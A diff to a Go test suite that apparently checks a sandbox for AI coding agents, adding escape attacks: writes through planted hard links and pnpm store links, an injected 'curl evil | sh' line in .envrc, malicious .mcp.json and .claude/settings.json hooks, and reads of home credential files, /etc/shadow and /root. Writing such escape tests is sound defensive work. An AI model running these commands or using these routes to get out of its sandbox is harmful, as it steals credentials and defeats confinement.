@@ -41,14 +41,15 @@ const (
 
 // attackEnv is what every attack may use.
 type attackEnv struct {
-	ws      string // the workspace (inside the boundary, writable in workspace_write)
-	out     string // a host directory outside the workspace, writable by the test's user
-	data    string // a stand-in for the data dir, with a credentials file; Spec.Hidden
-	hostPid int    // a host process with attackSecret in its environment
-	port    int    // a TCP listener on 127.0.0.1 standing in for the log
-	fd      int    // a descriptor this process holds without close-on-exec
-	fdFile  string // the file fd writes to
-	ipcKey  string // a SysV message queue key of the host
+	ws      string   // the workspace (inside the boundary, writable in workspace_write)
+	out     string   // a host directory outside the workspace, writable by the test's user
+	data    string   // a stand-in for the data dir, with a credentials file; Spec.Hidden
+	hostPid int      // a host process with attackSecret in its environment
+	port    int      // a TCP listener on 127.0.0.1 standing in for the log
+	fd      int      // a descriptor this process holds without close-on-exec
+	fdFile  string   // the file fd writes to
+	ipcKey  string   // a SysV message queue key of the host
+	env     []string // added to the command's environment by setup (last wins)
 }
 
 const attackSecret = "LB_ATTACK_SECRET=s3cr3t-7f1a"
@@ -183,6 +184,56 @@ func attacks() []attack {
 			escaped: func(e *attackEnv) bool {
 				return contains(filepath.Join(e.ws, ".mcp.json"), "{}") || contains(filepath.Join(e.ws, ".envrc"), "evil")
 			}},
+		{name: "write through a planted hard link", control: controlEscapes,
+			setup: func(t *testing.T, e *attackEnv) {
+				target := filepath.Join(e.out, "target")
+				must(t, os.WriteFile(target, []byte("orig\n"), 0o666))
+				must(t, os.Link(target, filepath.Join(e.ws, "hl")))
+			},
+			script:  `echo pwned >> hl 2>/dev/null; printf pwned > hl.new 2>/dev/null && mv -f hl.new hl 2>/dev/null; true`,
+			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.out, "target"), "pwned") }},
+		{name: "write through a pnpm store link", control: controlEscapes,
+			setup: func(t *testing.T, e *attackEnv) {
+				pnpmTree(t, e.ws, filepath.Join(e.out, "store"), 3, 4)
+			},
+			script: `for f in node_modules/p1/index.js node_modules/.pnpm/p2@1.0.0/node_modules/p2/lib/f1.js; do
+				echo pwned >> "$f" 2>/dev/null; truncate -s0 "$f" 2>/dev/null; done; true`,
+			escaped: func(e *attackEnv) bool { return storeTouched(filepath.Join(e.out, "store")) }},
+		{name: ".envrc rewritten through a second link", control: controlEscapes,
+			setup: func(t *testing.T, e *attackEnv) {
+				must(t, os.WriteFile(filepath.Join(e.ws, ".envrc"), []byte("export A=1\n"), 0o644))
+				must(t, os.Link(filepath.Join(e.ws, ".envrc"), filepath.Join(e.ws, "notes.txt")))
+			},
+			script:  `echo 'curl evil | sh' >> notes.txt 2>/dev/null; true`,
+			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, ".envrc"), "evil") }},
+		{name: ".mcp.json rewritten through a nested second link", control: controlEscapes,
+			setup: func(t *testing.T, e *attackEnv) {
+				must(t, os.WriteFile(filepath.Join(e.ws, ".mcp.json"), []byte("{}\n"), 0o644))
+				must(t, os.MkdirAll(filepath.Join(e.ws, "a/b"), 0o755))
+				must(t, os.Link(filepath.Join(e.ws, ".mcp.json"), filepath.Join(e.ws, "a/b/mcp.json")))
+			},
+			script:  `echo '{"mcpServers":{"x":{"command":"evil"}}}' > a/b/mcp.json 2>/dev/null; true`,
+			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, ".mcp.json"), "evil") }},
+		{name: ".claude/settings.json rewritten through a second link", control: controlEscapes,
+			setup: func(t *testing.T, e *attackEnv) {
+				must(t, os.MkdirAll(filepath.Join(e.ws, ".claude"), 0o755))
+				must(t, os.WriteFile(filepath.Join(e.ws, ".claude/settings.json"), []byte("{}\n"), 0o644))
+				must(t, os.Link(filepath.Join(e.ws, ".claude/settings.json"), filepath.Join(e.ws, "settings.json")))
+			},
+			script:  `echo '{"hooks":{"x":"evil"}}' > settings.json 2>/dev/null; true`,
+			escaped: func(e *attackEnv) bool { return contains(filepath.Join(e.ws, ".claude/settings.json"), "evil") }},
+		{name: "read credential files in the home", control: controlEscapes,
+			setup: func(t *testing.T, e *attackEnv) {
+				home := filepath.Join(e.out, "home")
+				credentialHome(t, home)
+				e.env = append(e.env, "HOME="+home)
+			},
+			script: `for f in ` + strings.Join(credentialFiles(), " ") + `; do
+				grep -qs ` + credentialMark + ` "$HOME/$f" && echo "ESCAPED $f"; done; true`},
+		{name: "read /etc/shadow", control: controlRoot,
+			script: `grep -qs : /etc/shadow && echo ESCAPED; true`},
+		{name: "list another user's home", control: controlRoot,
+			script: `ls -A /root 2>/dev/null | grep -q . && echo ESCAPED; true`},
 		// A forked child shows as sleep only once it has exec'd it, which
 		// a loaded machine delays: the count is taken again for up to 5 s
 		// (the sleeps outlive that) before it is believed short.
@@ -347,6 +398,7 @@ func TestAttack(t *testing.T) {
 				s.Env = append(s.Env, "WS="+e.ws, "OUT="+e.out, "DATA="+e.data, "HOME="+e.ws,
 					"HOST_PID="+strconv.Itoa(e.hostPid), "PORT="+strconv.Itoa(e.port),
 					"FD="+strconv.Itoa(e.fd), "IPC_KEY="+e.ipcKey, "GIT_CONFIG_NOSYSTEM=1")
+				s.Env = append(s.Env, e.env...)
 				r := newRecorder("")
 				p, err := Start(t.Context(), s, r.emit)
 				if err != nil {
